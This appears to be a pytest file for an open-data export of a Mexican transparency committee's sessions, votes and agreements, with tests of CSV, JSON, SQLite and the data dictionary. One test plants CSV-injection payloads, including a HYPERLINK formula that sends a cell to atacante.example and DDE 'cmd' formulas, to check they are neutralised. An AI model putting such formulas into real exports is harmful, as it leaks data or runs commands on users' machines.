"""Open data: CSV (UTF-8), JSON and SQLite of sesiones, asistencia, acuerdos and votaciones, with a dictionary."""

from __future__ import annotations

import csv
import json
import sqlite3

from pipeline import opendata, records


def test_the_tables_in_csv_json_and_sqlite(registro_edomex, tmp_path):
    tablas = opendata.tablas(registro_edomex)
    opendata.escribir(tablas, tmp_path)
    with (tmp_path / "acuerdos.csv").open(encoding="utf-8", newline="") as handle:
        acuerdos = list(csv.DictReader(handle))
    iv = [a for a in acuerdos if a["sesion"] == "IV-2020"]
    assert [(a["folio"], a["resultado"], a["a_favor"], a["en_contra"]) for a in iv] == [
        (f"STL/IV/{n}/2020", "unanimidad", "3", "0") for n in range(1, 5)
    ]
    assert iv[1]["aprueba_acta"] == "III-2020"
    assert iv[2]["objeto"] == "el eje “Cultura del Gobierno Abierto” por parte del Infoem"
    with (tmp_path / "votaciones.csv").open(encoding="utf-8", newline="") as handle:
        votos = list(csv.DictReader(handle))
    assert {(v["integrante"], v["sentido"]) for v in votos if v["folio"] == "STL/IV/3/2020"} == {
        ("martinez", "a_favor"),
        ("vargas", "a_favor"),
        ("cervantes", "a_favor"),
    }
    asistencia = json.loads((tmp_path / "asistencia.json").read_text("utf-8"))
    funes = next(a for a in asistencia if a["sesion"] == "IV-2020" and a["integrante"] == "funes")
    assert funes["voto"] is False and funes["firma"] is True and funes["calidad"] == "facilitador"
    with sqlite3.connect(tmp_path / "datos.sqlite") as db:
        assert db.execute("SELECT count(*) FROM acuerdos WHERE sesion = 'IV-2020'").fetchone() == (4,)
        assert db.execute("SELECT quorum, asistentes FROM sesiones WHERE sesion = 'IV-2020'").fetchone() == (
            1,
            6,
        )
    diccionario = json.loads((tmp_path / "datapackage.json").read_text("utf-8"))
    assert [r["name"] for r in diccionario["resources"]] == [
        "sesiones",
        "asistencia",
        "acuerdos",
        "votaciones",
        "documentos",  # what the site publishes; none without an archive (see test_version_publica.py)
    ]
    campos = {f["name"] for r in diccionario["resources"] for f in r["schema"]["fields"]}
    assert "privado" not in " ".join(campos) and "correo" not in campos


def test_a_text_a_spreadsheet_would_run_as_a_formula_is_neutralised_in_the_csv(tree, tmp_path):
    """OWASP's CSV injection: a cell starting with =, +, -, @, tab or carriage return gets a single quote in the
    CSV (names in asistencia and votaciones, the objeto of an acuerdo); JSON and SQLite keep the text."""
    formulas = {
        "martinez": '=HYPERLINK("http://atacante.example/?"&A1,"ver")',
        "vargas": "+cmd|' /C calc'!A0",
        "cervantes": "-2+3+cmd|' /C calc'!A0",
        "funes": "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    stl = (tree / "stl.yaml").read_text("utf-8")
    nombres = {p.id: p.nombre for p in records.load(tree).stl.integrantes}
    for id_, formula in formulas.items():
        stl = stl.replace(f"nombre: {nombres[id_]}\n", f"nombre: {json.dumps(formula)}\n", 1)
    (tree / "stl.yaml").write_text(stl, "utf-8")
    sesion = tree / "sesiones/IV-2020.yaml"
    objeto = "el eje “Cultura del Gobierno Abierto” por parte del Infoem"
    sesion.write_text(sesion.read_text("utf-8").replace(objeto, "'\t=1+1'"), "utf-8")
    registro = records.load(tree)
    opendata.escribir(opendata.tablas(registro), tmp_path)

    def filas(nombre: str) -> list[dict]:
        with (tmp_path / f"{nombre}.csv").open(encoding="utf-8", newline="") as handle:
            return list(csv.DictReader(handle))

    asistentes = {f["integrante"]: f["nombre"] for f in filas("asistencia") if f["sesion"] == "IV-2020"}
    votantes = {f["integrante"]: f["nombre"] for f in filas("votaciones") if f["sesion"] == "IV-2020"}
    for id_, formula in formulas.items():
        assert asistentes[id_] == "'" + formula
        assert votantes.get(id_, "'" + formula) == "'" + formula
    assert len(votantes) >= 3
    assert "'\t=1+1" in {f["objeto"] for f in filas("acuerdos")}
    for nombre in ("asistencia", "votaciones", "acuerdos", "sesiones"):
        for fila in filas(nombre):
            assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in fila.values()), fila
    asistencia = json.loads((tmp_path / "asistencia.json").read_text("utf-8"))
    assert {a["nombre"] for a in asistencia if a["sesion"] == "IV-2020"} >= set(formulas.values())
    with sqlite3.connect(tmp_path / "datos.sqlite") as db:
        assert db.execute("SELECT objeto FROM acuerdos WHERE objeto LIKE '%=1+1'").fetchone() == ("\t=1+1",)
    diccionario = json.loads((tmp_path / "datapackage.json").read_text("utf-8"))
    assert "apóstrofo" in diccionario["description"]
    assert all("apóstrofo" in r["description"] for r in diccionario["resources"])


def test_the_data_dictionary_gives_examples_from_its_own_stl(registro_zacatecas, registro_edomex):
    """The dictionary's examples are the STL's own ids and folios (they were Edomex's whatever the STL)."""
    zac = {
        (t.nombre, c.nombre): c.descripcion for t in opendata.tablas(registro_zacatecas) for c in t.columnas
    }
    todo = " ".join(zac.values())
    assert "IV-2020" not in todo and "STL/004/2020" not in todo and "STL/IV/" not in todo
    sesion = registro_zacatecas.sesion("I-2021")
    assert "I-2021 (ordinaria)" in zac[("sesiones", "sesion")]
    assert "INST-2020 (instalación)" in zac[("sesiones", "sesion")]
    assert sesion.convocatoria.folio in zac[("sesiones", "convocatoria_folio")]
    assert sesion.acuerdos[0].folio in zac[("acuerdos", "folio")]
    edomex = {
        (t.nombre, c.nombre): c.descripcion for t in opendata.tablas(registro_edomex) for c in t.columnas
    }
    assert "STL/004/2020" in edomex[("sesiones", "convocatoria_folio")]


def test_the_data_package_names_its_license(registro_edomex, tmp_path):
    opendata.escribir(
        opendata.tablas(registro_edomex), tmp_path, licencia=("ODC-BY-1.0", "ODC", "https://x.mx/l")
    )
    paquete = json.loads((tmp_path / "datapackage.json").read_text("utf-8"))
    assert paquete["licenses"] == [{"name": "ODC-BY-1.0", "title": "ODC", "path": "https://x.mx/l"}]
